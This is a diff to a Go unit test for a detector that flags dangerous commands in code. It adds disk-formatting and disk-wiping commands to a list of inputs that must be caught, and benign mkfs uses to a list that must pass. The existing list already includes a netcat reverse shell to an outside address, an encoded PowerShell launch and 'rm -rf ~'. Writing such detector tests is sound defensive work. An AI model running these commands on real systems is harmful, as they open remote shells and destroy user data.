@@ -275,6 +275,8 @@ func TestCodeConstantArgv(t *testing.T) {
 		`subprocess.Popen(["powershell", "-enc", "SQBFAFgA"])`,
 		`subprocess.call(['nc', '-e', '/bin/sh', '198.51.100.7', '4444'])`,
 		`Process.spawn("rm -rf ~")`,
+		`exec.Command("mkfs.ext4", "/dev/sdb1")`,
+		"sudo wipefs -a $DISK",
 	}
 	for _, in := range bad {
 		if len(CheckCode(in)) == 0 {
@@ -289,6 +291,8 @@ func TestCodeConstantArgv(t *testing.T) {
 		`new ProcessBuilder("git", "status").start();`,
 		`exec.Command("sh", "-c", "echo ready").Run()`,
 		`subprocess.check_output(["powershell", "-File", "build.ps1"])`,
+		`exec.Command("mkfs.erofs", "--help")`,
+		"mkfs.ext4 -F rootfs.img",
 	}
 	for _, in := range good {
 		if f := CheckCode(in); len(f) > 0 {
